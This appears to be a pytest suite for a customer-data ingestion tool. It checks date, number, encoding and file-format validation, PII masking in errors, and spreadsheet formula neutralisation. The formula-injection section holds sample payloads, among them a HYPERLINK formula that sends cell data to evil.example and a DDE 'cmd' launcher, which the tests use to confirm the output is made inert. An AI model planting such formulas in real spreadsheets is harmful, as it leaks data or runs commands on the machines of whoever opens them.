"""Bad input never becomes wrong output: each case is refused with the file, column, rule and
rows, and nothing is written; the writers neutralise spreadsheet formulas."""

from __future__ import annotations

import csv
import io
import warnings
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from typer.testing import CliRunner

from custsat.cli import app
from custsat.data.contracts import ContractError, ContractWarning, validate_tables
from custsat.data.io import InputFileError, iter_table, read_table, write_table

NOW = pd.Timestamp("2026-01-01")
CUSTOMERS = "customer_id\nC1\nC2\nC3\n"


def write(path: Path, text: str | bytes, encoding: str = "utf-8") -> Path:
    path.write_bytes(text if isinstance(text, bytes) else text.encode(encoding))
    return path


def ingest_cli(tmp_path: Path, transactions: Path, *, mapping: str | None = None, customers: Path | None = None):
    """`custsat ingest` of one transactions file; returns (result, out folder)."""
    customers = customers or write(tmp_path / "customers.csv", CUSTOMERS)
    out = tmp_path / "interim"
    args = ["ingest", "--customers", str(customers), "--transactions", str(transactions), "--out", str(out)]
    if mapping is not None:
        args += ["--mapping", str(write(tmp_path / "mapping.yaml", mapping))]
    plain = CliRunner().invoke(app, args)
    result = CliRunner().invoke(app, ["--debug", *args])  # the same run, raising the error itself
    result.plain = plain
    return result, out


def assert_refused(result, out: Path, error_type: type, *fragments: str) -> BaseException:
    """Exit code 1 and one error message, no traceback (``--debug``: the project's own error),
    naming what is wrong; nothing written."""
    plain = result.plain
    assert plain.exit_code == 1 and plain.output.startswith("error: ") and "Traceback" not in plain.output
    assert isinstance(result.exception, error_type), repr(result.exception)
    message = str(result.exception)
    for fragment in fragments:
        assert fragment in message, f"{fragment!r} not in {message!r}"
    assert " ".join(message.split()[:8]) in " ".join(plain.output.split())
    assert not out.exists()
    return result.exception


def transactions_csv(tmp_path: Path, timestamps, amounts=None, name="transactions.csv") -> Path:
    amounts = amounts or ["10"] * len(timestamps)
    rows = [f'C{i % 3 + 1},"{t}","{a}"' for i, (t, a) in enumerate(zip(timestamps, amounts, strict=True))]
    return write(tmp_path / name, "customer_id,timestamp,amount\n" + "\n".join(rows) + "\n")


# --------------------------------------------------------------------------- 1. day/month order
def test_day_first_column_is_read_day_first_throughout(tmp_path):
    """One value with a day above 12 proves the order for the whole column: 05/03 is 5 March."""
    path = transactions_csv(tmp_path, ["05/03/2024 10:00", "13/03/2024 09:30", "01/02/2024 08:00"])
    result, out = ingest_cli(tmp_path, path)
    assert result.exit_code == 0, result.output
    stamps = pd.read_parquet(out / "transactions.parquet")["timestamp"].tolist()
    assert stamps == [pd.Timestamp("2024-03-05 10:00"), pd.Timestamp("2024-03-13 09:30"), pd.Timestamp("2024-02-01 08:00")]


def test_month_first_column_is_read_month_first_throughout():
    tables = {"customers": pd.DataFrame({"customer_id": ["C1"]}),
              "transactions": pd.DataFrame({"customer_id": ["C1", "C1"], "timestamp": ["05/03/2024", "12/25/2024"],
                                            "amount": ["1", "2"]})}
    stamps = validate_tables(tables, now=NOW)["transactions"]["timestamp"].tolist()
    assert stamps == [pd.Timestamp("2024-05-03"), pd.Timestamp("2024-12-25")]


def test_ambiguous_day_month_column_is_refused_with_the_mapping_hint(tmp_path):
    path = transactions_csv(tmp_path, ["05/03/2024 10:00", "06/04/2024 11:00", "07/07/2024 12:00"])
    result, out = ingest_cli(tmp_path, path)
    error = assert_refused(result, out, ContractError, "timestamp", "transactions.csv", "date_format",
                           '{timestamp: "%d/%m/%Y %H:%M"}', '"%m/%d/%Y %H:%M"')
    assert error.column == "timestamp"
    assert error.n_bad == 2  # 07/07 reads the same both ways
    assert "row 2" in str(error) and "row 3" in str(error)


def test_column_mixing_both_orders_is_refused(tmp_path):
    path = transactions_csv(tmp_path, ["13/03/2024", "03/14/2024", "01/01/2024"])
    result, out = ingest_cli(tmp_path, path)
    error = assert_refused(result, out, ContractError, "mix day/month/year", "'13/03/2024'", "'03/14/2024'")
    assert error.n_bad == 2


def test_date_format_per_column_in_the_mapping_settles_the_order(tmp_path):
    path = transactions_csv(tmp_path, ["05/03/2024 10:00", "06/04/2024", "07/07/2024 12:00"])
    mapping = ("tables:\n  customers:\n    columns: {customer_id: customer_id}\n"
               "  transactions:\n    columns: {customer_id: customer_id, timestamp: timestamp, amount: amount}\n"
               "    date_format: {timestamp: '%d/%m/%Y %H:%M'}\n")
    result, out = ingest_cli(tmp_path, path, mapping=mapping)
    assert result.exit_code == 0, result.output
    stamps = pd.read_parquet(out / "transactions.parquet")["timestamp"].tolist()
    assert stamps[:2] == [pd.Timestamp("2024-03-05 10:00"), pd.Timestamp("2024-04-06")]  # a date without its time


def test_numbers_in_a_date_column_are_refused():
    """An Excel serial day (45000) or Unix time is not read as nanoseconds after 1970."""
    tables = {"customers": pd.DataFrame({"customer_id": ["C1"]}),
              "transactions": pd.DataFrame({"customer_id": ["C1", "C1"], "timestamp": pd.Series([45000, "2024-01-01"], dtype=object),
                                            "amount": ["1", "2"]})}
    with pytest.raises(ContractError, match="numbers where dates are expected") as info:
        validate_tables(tables, now=NOW)
    assert info.value.n_bad == 1


# --------------------------------------------------------------------------- 2. decimal commas
@pytest.mark.parametrize("amount", ["12,50", "1.200,50", "1,2,3"])
def test_decimal_commas_are_refused_naming_the_rows(tmp_path, amount):
    path = transactions_csv(tmp_path, ["2024-01-01", "2024-01-02"], ["1,200.50", amount])
    result, out = ingest_cli(tmp_path, path)
    error = assert_refused(result, out, ContractError, "amount", "thousands separator", 'decimal: ","', "row 3")
    assert error.rows["amount"].tolist() == [amount]


def test_thousands_grouping_and_currency_signs_are_read():
    tables = {"customers": pd.DataFrame({"customer_id": ["C1"]}),
              "transactions": pd.DataFrame({"customer_id": ["C1"] * 5, "timestamp": ["2024-01-01"] * 5,
                                            "amount": ["1,200.50", "¥1,299.00", "-¥20", "1 000", "3"]})}
    assert validate_tables(tables, now=NOW)["transactions"]["amount"].tolist() == [1200.5, 1299.0, -20.0, 1000.0, 3.0]


def test_decimal_comma_option_of_the_mapping(tmp_path):
    path = transactions_csv(tmp_path, ["2024-01-01", "2024-01-02", "2024-01-03"], ["12,50", "1.200,50", "-3"])
    mapping = ("tables:\n  customers:\n    columns: {customer_id: customer_id}\n"
               "  transactions:\n    columns: {customer_id: customer_id, timestamp: timestamp, amount: amount}\n"
               "    decimal: ','\n")
    result, out = ingest_cli(tmp_path, path, mapping=mapping)
    assert result.exit_code == 0, result.output
    assert pd.read_parquet(out / "transactions.parquet")["amount"].tolist() == [12.5, 1200.5, -3.0]


# --------------------------------------------------------------------------- 3. XLSX sheets
def two_sheet_workbook(path: Path, *, cover: bool = False) -> Path:
    with pd.ExcelWriter(path) as writer:
        if cover:
            pd.DataFrame({"Quarterly export": ["prepared by sales ops"]}).to_excel(writer, sheet_name="Cover", index=False)
        pd.DataFrame({"customer_id": ["C1", "C2"], "timestamp": ["2024-01-01", "2024-01-02"], "amount": [1, 2]}).to_excel(
            writer, sheet_name="2024-H1", index=False)
        pd.DataFrame({"customer_id": ["C3"], "timestamp": ["2024-07-01"], "amount": [3]}).to_excel(
            writer, sheet_name="2024-H2", index=False)
    return path


def test_workbook_with_several_data_sheets_and_no_choice_is_refused(tmp_path):
    path = two_sheet_workbook(tmp_path / "orders.xlsx")
    result, out = ingest_cli(tmp_path, path)
    assert_refused(result, out, InputFileError, "orders.xlsx", "2 sheets with data", "'2024-H1'", "'2024-H2'", "sheet:")


def test_sheet_named_in_the_mapping_is_read(tmp_path):
    path = two_sheet_workbook(tmp_path / "orders.xlsx")
    mapping = ("tables:\n  customers:\n    columns: {customer_id: customer_id}\n"
               "  transactions:\n    columns: {customer_id: customer_id, timestamp: timestamp, amount: amount}\n"
               "    sheet: 2024-H2\n")
    result, out = ingest_cli(tmp_path, path, mapping=mapping)
    assert result.exit_code == 0, result.output
    assert pd.read_parquet(out / "transactions.parquet")["customer_id"].tolist() == ["C3"]


def test_cover_sheet_without_contract_columns_names_the_sheets(tmp_path):
    path = two_sheet_workbook(tmp_path / "orders.xlsx", cover=True)
    mapping = ("tables:\n  customers:\n    columns: {customer_id: customer_id}\n"
               "  transactions:\n    columns: {customer_id: customer_id, timestamp: timestamp, amount: amount}\n"
               "    sheet: Cover\n")
    result, out = ingest_cli(tmp_path, path, mapping=mapping)
    assert_refused(result, out, ContractError, "not found in the file", "'Cover'", "'2024-H1'", "'2024-H2'")
    frame = read_table(path, sheet="Cover")
    with pytest.raises(ContractError, match=r"sheet 'Cover' of a workbook with sheets \['Cover', '2024-H1', '2024-H2'\]"):
        validate_tables({"customers": pd.DataFrame({"customer_id": ["C1"]}), "transactions": frame}, now=NOW)


def test_empty_extra_sheets_do_not_count(tmp_path):
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.append(["customer_id", "amount"])
    workbook.active.append(["C1", 5])
    workbook.create_sheet("Sheet2")
    workbook.create_sheet("Sheet3")
    workbook.save(tmp_path / "t.xlsx")
    assert read_table(tmp_path / "t.xlsx")["customer_id"].tolist() == ["C1"]


# --------------------------------------------------------------------------- 4. other CJK encodings
FOREIGN = {
    "big5": ("客戶編號,地區,意見\nC1,華北地區,送貨速度太慢，客服也不回覆\nC2,新北市,商品品質不錯，價格實惠\n"
             "C3,臺中,退款等了兩個星期\n", "Big5"),
    "euc_kr": ("고객번호,지역,의견\nC1,경기도,배달이 늦고 포장이 엉망이에요\nC2,인천,직원분이 친절하게 설명해 주셨어요\n"
               "C3,대구,환불은 언제 되나요\n", "EUC-KR"),
    "shift_jis": ("顧客番号,地域,ご意見\nC1,北海道,届いた商品が壊れていました\nC2,福岡,サポートの返事が早くて助かりました\n", "Shift-JIS"),
    "euc_jp": ("顧客番号,地域,ご意見\nC1,北海道,届いた商品が壊れていました\nC2,福岡,サポートの返事が早くて助かりました\n", "EUC-JP"),
}


@pytest.mark.parametrize("encoding", sorted(FOREIGN))
def test_big5_euc_kr_and_japanese_are_refused_not_read_as_gb18030(tmp_path, encoding):
    text, name = FOREIGN[encoding]
    path = write(tmp_path / "customers.csv", text, encoding)
    with pytest.raises(InputFileError, match=f"looks like {name}.*UTF-8"):
        read_table(path, table="customers")
    with pytest.raises(InputFileError, match=f"looks like {name}"):
        list(iter_table(path, table="customers"))
    result, out = ingest_cli(tmp_path, transactions_csv(tmp_path, ["2024-01-01"]), customers=path)
    assert_refused(result, out, InputFileError, "customers.csv", name)


@pytest.mark.parametrize("text", [
    "客户编号,地区,意见\nC1,华北地区,送货速度太慢，客服也不回复\nC2,上海,商品质量不错，价格实惠\n",
    "客戶編號,地區,意見\nC1,華北地區,送貨太慢了，客服也不回覆\nC2,新北市,商品品質不錯\n",  # traditional, in GBK
    "客户编号,地区\nC1,华北地区\n",
])
def test_real_gb18030_still_reads(tmp_path, text):
    path = write(tmp_path / "t.csv", text, "gb18030")
    assert read_table(path)["客户编号" if "客户" in text else "客戶編號"].tolist()[0] == "C1"
    assert read_table(path).iloc[0, 1] == text.splitlines()[1].split(",")[1]


def test_gb18030_phrases_are_never_taken_for_another_encoding(tmp_path):
    """Every simplified-Chinese phrase of the synthetic feedback banks, alone in a tiny file,
    still reads as GB18030: the rival-encoding evidence must not refuse real Chinese."""
    from custsat.data.cjk_encodings import rival_encoding
    from custsat.data.synth_text import PRODUCTS

    phrases = {zh for products in PRODUCTS.values() for zh, _ in products}
    phrases |= {"华北地区", "华东地区", "西南地区", "上海", "北京", "广州", "深圳", "成都", "杭州",
                "物流太慢了", "客服态度很好", "退货一直没人处理", "质量不错 价格实惠"}
    refused = [p for p in sorted(phrases) if rival_encoding(f"id,text\nC1,{p}\n".encode("gb18030"),
                                                            f"id,text\nC1,{p}\n") is not None]
    assert refused == []


# --------------------------------------------------------------------------- 5. NUL bytes
def test_nul_byte_in_a_csv_is_refused_naming_the_line(tmp_path):
    path = write(tmp_path / "customers.csv", b"customer_id,region\nC1,north\nF\x00001,south\n")
    result, out = ingest_cli(tmp_path, transactions_csv(tmp_path, ["2024-01-01"]), customers=path)
    assert_refused(result, out, InputFileError, "customers.csv", "NUL", "line(s) 3")


@pytest.mark.parametrize(("column", "what"), [("feedback_id", "id contains a control character"), ("text", "NUL character")])
def test_nul_in_parquet_ids_and_texts_is_refused_naming_the_rows(column, what):
    feedback = pd.DataFrame({"feedback_id": ["F1", "F2"], "customer_id": ["C1", "C1"], "timestamp": ["2024-01-01"] * 2,
                             "channel": ["chat", "chat"], "text": ["fine", "ok"]})
    feedback.loc[1, column] = "F\x00001" if column == "feedback_id" else "bad\x00tail"
    tables = {"customers": pd.DataFrame({"customer_id": ["C1"]}),
              "transactions": pd.DataFrame({"customer_id": ["C1"], "timestamp": ["2024-01-01"], "amount": ["1"]}),
              "feedback": feedback}
    with pytest.raises(ContractError, match=what) as info:
        validate_tables(tables, now=NOW)
    assert info.value.column == column and "row 3" in str(info.value) and "\\x00" in str(info.value)


# --------------------------------------------------------------------------- 6. absurd magnitudes
def test_absurd_amount_is_refused(tmp_path):
    path = transactions_csv(tmp_path, ["2024-01-01", "2024-01-02"], ["10", "1e300"])
    result, out = ingest_cli(tmp_path, path)
    error = assert_refused(result, out, ContractError, "amount beyond", "max_amount", "row 3")
    assert error.column == "amount"


def test_amount_bound_is_a_setting(monkeypatch):
    from custsat.config import get_settings

    tables = {"customers": pd.DataFrame({"customer_id": ["C1"]}),
              "transactions": pd.DataFrame({"customer_id": ["C1"], "timestamp": ["2024-01-01"], "amount": ["-5000"]})}
    validate_tables(tables, now=NOW)  # within the default bound, refunds included
    monkeypatch.setenv("CUSTSAT_MAX_AMOUNT", "1000")
    get_settings.cache_clear()
    try:
        with pytest.raises(ContractError, match="amount beyond ±1,000"):
            validate_tables(tables, now=NOW)
    finally:
        get_settings.cache_clear()
    with pytest.raises(ContractError, match="amount beyond"):
        validate_tables(tables, now=NOW, max_amount=100)


# --------------------------------------------------------------------------- 8. formula injection
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "=cmd|' /C calc'!A0", "+1+2", "@SUM(1+1)",
            "-2+3", "\t=1+1", "\r=1+1"]


def payload_frame() -> pd.DataFrame:
    return pd.DataFrame({
        "customer_id": PAYLOADS + ["C-8", "-20"],
        "amount": [-12.5, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0, -7.0, -20.0],
        "=SUM(A1:A2)": ["x"] * 9,  # a header is a cell too
    })


def read_back_csv(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def neutralised(payloads) -> list[str]:
    """What a reader gets back: a leading quote; line breaks in text as \n (CSV and XML both)."""
    return ["'" + p.replace("\r", "\n") for p in payloads]


def read_back_xlsx(path: Path, sheet: str | None = None):
    from openpyxl import load_workbook

    workbook = load_workbook(path)
    return workbook[sheet] if sheet else workbook.active


def assert_neutralised_csv(rows: list[list[str]], id_column: int = 0):
    header, *body = rows
    assert "'=SUM(A1:A2)" in header
    ids = [row[id_column] for row in body]
    assert ids[:len(PAYLOADS)] == neutralised(PAYLOADS)
    assert ids[len(PAYLOADS):] == ["C-8", "-20"]  # no trigger first; a plain negative number stays a number


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_write_table_neutralises_formulas(tmp_path, suffix):
    path = write_table(payload_frame(), tmp_path / f"out{suffix}")
    if suffix == ".csv":
        rows = read_back_csv(path)
        assert_neutralised_csv(rows)
        assert [row[1] for row in rows[1:3]] == ["-12.5", "1.0"]  # numbers are not touched
    else:
        sheet = read_back_xlsx(path)
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]  # no live formula anywhere
        ids = [c.value for c in sheet["A"][1:]]
        assert ids[:len(PAYLOADS)] == neutralised(PAYLOADS)
        assert [c.value for c in sheet["B"][1:3]] == [-12.5, 1] and sheet["B"][1].data_type == "n"


def test_parquet_keeps_values_exact(tmp_path):
    path = write_table(payload_frame(), tmp_path / "out.parquet")
    assert pd.read_parquet(path)["customer_id"].tolist() == PAYLOADS + ["C-8", "-20"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_scored_list_neutralises_formulas(tmp_path, fmt):
    from custsat.serving.outputs import write_scored

    path = write_scored(payload_frame(), tmp_path / f"scored.{fmt}")
    if fmt == "csv":
        assert_neutralised_csv(read_back_csv(path))
    else:
        for name in ("customers", "summary"):
            sheet = read_back_xlsx(path, name)
            assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        ids = [c.value for c in read_back_xlsx(path, "customers")["A"][1:]]
        assert ids[:len(PAYLOADS)] == neutralised(PAYLOADS)


def test_streamed_writer_entry_point_neutralises_for_spreadsheets():
    from custsat.serving.outputs import _clean_for_output

    frame = payload_frame().assign(tier=pd.Categorical(["high"] * 9))
    assert _clean_for_output(frame)["customer_id"].tolist()[0] == PAYLOADS[0]  # Parquet parts stay exact
    cleaned = _clean_for_output(frame, "csv")
    assert cleaned["customer_id"].tolist()[0] == "'" + PAYLOADS[0]
    assert cleaned["tier"].dtype == object and cleaned["amount"].tolist()[0] == -12.5


# --------------------------------------------------------------------------- 9. PII in errors
PHONE, EMAIL = "13812345678", "li.lei@example.com"


def test_rows_shown_in_a_contract_error_are_masked():
    feedback = pd.DataFrame({"feedback_id": ["F1"], "customer_id": ["C1"], "timestamp": ["not a date"],
                             "channel": ["chat"], "text": [f"call me on {PHONE} or {EMAIL}"]})
    tables = {"customers": pd.DataFrame({"customer_id": ["C1"]}),
              "transactions": pd.DataFrame({"customer_id": ["C1"], "timestamp": ["2024-01-01"], "amount": ["1"]}),
              "feedback": feedback}
    with pytest.raises(ContractError) as info:
        validate_tables(tables, now=NOW)
    message = str(info.value)
    assert PHONE not in message and EMAIL not in message and "<PHONE>" in message and "<EMAIL>" in message
    assert PHONE not in info.value.rows.to_string()
    import pickle

    assert PHONE not in str(pickle.loads(pickle.dumps(info.value)))


def test_unknown_customer_warning_masks_ids():
    tables = {"customers": pd.DataFrame({"customer_id": ["C1"]}),
              "transactions": pd.DataFrame({"customer_id": [PHONE], "timestamp": ["2024-01-01"], "amount": ["1"]})}
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        validate_tables(tables, now=NOW, unknown_customers="warn")
    messages = [str(w.message) for w in caught if issubclass(w.category, ContractWarning)]
    assert messages and all(PHONE not in m for m in messages)


def test_cli_shows_a_warning_as_one_masked_line(tmp_path, isolated_settings):
    """A warning reaches the user as `warning: ...`, masked and without the source location."""
    folder = tmp_path / "in"
    folder.mkdir()
    write(folder / "customers.csv", "customer_id\nC1\n")
    write(folder / "transactions.csv", f"customer_id,timestamp,amount\nC1,2024-01-01,5\n{PHONE},2024-01-02,7\n")
    result = CliRunner().invoke(app, ["data", "profile", str(folder), "--unknown-customers", "warn"])
    assert result.exit_code == 0, result.output
    lines = [line for line in result.output.splitlines() if line.startswith("warning: ")]
    assert len(lines) == 1 and "customer_id not found in the customers table" in result.output
    assert PHONE not in result.output and ".py:" not in result.output and "Warning:" not in result.output


def test_reader_errors_mask_the_row_they_show(tmp_path):
    path = write(tmp_path / "t.csv", f"customer_id,text\nC1,{PHONE},extra\n")
    with pytest.raises(InputFileError, match="row 2 has 3 fields") as info:
        read_table(path)
    assert PHONE not in str(info.value)


def test_data_profile_logs_and_prints_masked_errors(tmp_path, isolated_settings):
    import mlflow

    from custsat.data.profile import run_data_profile

    folder = tmp_path / "export"
    folder.mkdir()
    write(folder / "customers.csv", CUSTOMERS)
    write(folder / "transactions.csv", f"customer_id,timestamp,amount\nC1,2024-01-01,1\nC2,{PHONE},2\n")
    with pytest.raises(ContractError) as info:
        run_data_profile(folder)
    assert PHONE not in str(info.value)
    run = mlflow.search_runs(experiment_names=None, search_all_experiments=True, output_format="list")[0]
    logged = Path(mlflow.artifacts.download_artifacts(run_id=run.info.run_id, artifact_path="validation_error.txt",
                                                      dst_path=str(tmp_path / "artifacts"))).read_text()
    assert "<PHONE>" in logged and PHONE not in logged


# --------------------------------------------------------------------------- 10. readers' errors
def test_truncated_parquet(tmp_path):
    path = write_table(pd.DataFrame({"customer_id": [f"C{i}" for i in range(1000)]}), tmp_path / "customers.parquet")
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])
    with pytest.raises(InputFileError, match=r"customers\.parquet.*not a readable Parquet file"):
        read_table(path)
    with pytest.raises(InputFileError, match="not a readable Parquet file"):
        list(iter_table(path))


def test_corrupt_zstd_parquet_page(tmp_path):
    frame = pd.DataFrame({"customer_id": [f"customer-{i:06d}" for i in range(20_000)]})
    path = tmp_path / "customers.parquet"
    frame.to_parquet(path, compression="zstd")
    raw = bytearray(path.read_bytes())
    middle = len(raw) // 2
    raw[middle:middle + 64] = bytes(64)  # a zeroed run inside the compressed page
    path.write_bytes(bytes(raw))
    with pytest.raises(InputFileError, match="not a readable Parquet file"):
        read_table(path)


@pytest.mark.parametrize("damage", ["not a zip", "truncated"])
def test_corrupt_xlsx(tmp_path, damage):
    path = tmp_path / "customers.xlsx"
    pd.DataFrame({"customer_id": ["C1"]}).to_excel(path, index=False)
    path.write_bytes(b"PK\x03\x04 garbage" if damage == "not a zip" else path.read_bytes()[:300])
    with pytest.raises(InputFileError, match=r"customers\.xlsx.*not a readable XLSX workbook"):
        read_table(path)


@pytest.mark.parametrize(("text", "fragment"), [
    ("customer_id,amount\nC1,10\nC2,20,5\n", "row 3 has 3 fields but the header has 2"),
    ("customer_id,amount,region\nC1,10,n\nC2\n", "row 3 has 1 field but the header has 3"),
    ("customer_id,amount\nC1,10,\nC2,20,\n", "row 2 has 3 fields but the header has 2 (a delimiter at the end of each line"),
    ('customer_id,text\nC1,fine\nC2,"never closed\nC3,lost\nC4,lost\n', 'opens a value in row 3 is never closed'),
    ("customer_id,amount,amount \nC1,1,2\n", "duplicate header(s) after trimming spaces: 'amount' in columns 2, 3"),
    ("customer_id,amount,amount\nC1,1,2\n", "duplicate header(s)"),
])
def test_malformed_csv_is_refused_naming_file_rule_and_row(tmp_path, text, fragment):
    path = write(tmp_path / "transactions.csv", text)
    for read in (lambda: read_table(path, table="transactions"), lambda: list(iter_table(path, table="transactions", batch_rows=1))):
        with pytest.raises(InputFileError) as info:
            read()
        assert "transactions table" in str(info.value) and "transactions.csv" in str(info.value)
        assert fragment in str(info.value)


def test_stray_quote_inside_a_value_is_kept(tmp_path):
    path = write(tmp_path / "t.csv", 'customer_id,text\nC1,the 5" screen cracked\nC2,ok\n')
    assert read_table(path)["text"].tolist() == ['the 5" screen cracked', "ok"]


@pytest.mark.parametrize(("stamps", "fragment"), [
    (["2024-03-05 10:00+08:00", "2024-03-06 11:00+00:00"], "different time-zone offsets"),
    (["2024-03-05 10:00+08:00", "2024-03-06 11:00"], "with a time-zone offset"),
])
def test_mixed_time_zones_are_refused(tmp_path, stamps, fragment):
    result, out = ingest_cli(tmp_path, transactions_csv(tmp_path, stamps))
    error = assert_refused(result, out, ContractError, fragment, "transactions.csv")
    assert error.column == "timestamp" and "row 3" in str(error)


def test_one_offset_keeps_the_clock_time_as_parquet_does(tmp_path):
    stamps = ["2024-03-05 23:30+08:00", "2024-03-06T08:00:00+0800"]
    csv_path = transactions_csv(tmp_path, stamps)
    parquet_path = write_table(pd.DataFrame({"customer_id": ["C1", "C2"], "amount": [1.0, 2.0],
                                             "timestamp": pd.to_datetime(stamps, format="ISO8601")}), tmp_path / "tx.parquet")
    customers = pd.DataFrame({"customer_id": ["C1", "C2", "C3"]})
    for path in (csv_path, parquet_path):
        parsed = validate_tables({"customers": customers, "transactions": read_table(path)}, now=NOW)
        assert parsed["transactions"]["timestamp"].tolist() == [pd.Timestamp("2024-03-05 23:30"), pd.Timestamp("2024-03-06 08:00")]


def test_utf16_without_bom_is_named(tmp_path):
    path = write(tmp_path / "customers.csv", "customer_id,region\nC1,north\n".encode("utf-16-le"))
    with pytest.raises(InputFileError, match="UTF-16 text without a byte-order mark"):
        read_table(path, table="customers")


def test_contract_error_formats_rows_of_any_index():
    """The error formatter itself never fails (a trailing comma once gave it string row labels)."""
    rows = pd.DataFrame({"amount": ["x"]}, index=["C1"])
    assert "row C1" in str(ContractError("transactions", "amount", "unparseable number", rows))


# --------------------------------------------------------------------------- readers agree
CARRIAGE_RETURNS = '"\r\r\r\r""",""a\r\r\r ,\r\r""a\ra,\r"\r\r\r\r"""\r""a\r\r\r ,\r,"""\ra,\r \n"\r\r\r\r"""\r""a\r\r\r \r\r "\r\r ,'


@pytest.mark.parametrize("text", [CARRIAGE_RETURNS, "a,b\r1,2\r\r3,4\r\n5,6", "=' \r\r 11,\r2,"])
def test_in_memory_and_streamed_readers_agree(tmp_path, text):
    """pandas' C parser read the first text as 3.67 million rows whole and a few streamed."""
    path = write(tmp_path / "t.csv", text)
    try:
        whole = read_table(path)
    except InputFileError as error:
        with pytest.raises(InputFileError) as streamed:
            list(iter_table(path, batch_rows=2))
        assert str(streamed.value) == str(error)
        return
    assert len(whole) <= text.count("\n") + text.count("\r")
    pd.testing.assert_frame_equal(pd.concat(iter_table(path, batch_rows=2)), whole)


def test_missing_csv_values_are_none_in_both_readers(tmp_path):
    path = write(tmp_path / "t.csv", "a,b\n1,\n,2\n")
    frame = read_table(path)
    assert frame["b"].tolist() == [None, "2"] and frame["a"].tolist() == ["1", None]
    assert all(dtype == np.dtype(object) for dtype in frame.dtypes)


def test_carriage_return_inside_a_text_cell_stays_in_its_row(tmp_path):
    """pandas quotes CSV fields for \\n but not for a bare \\r, which readers take as a row end."""
    path = write_table(pd.DataFrame({"customer_id": ["C1", "C2"], "text": ["first line\rsecond line", "ok"]}), tmp_path / "t.csv")
    back = read_table(path)
    assert back["customer_id"].tolist() == ["C1", "C2"] and back["text"].tolist()[0] == "first line\nsecond line"
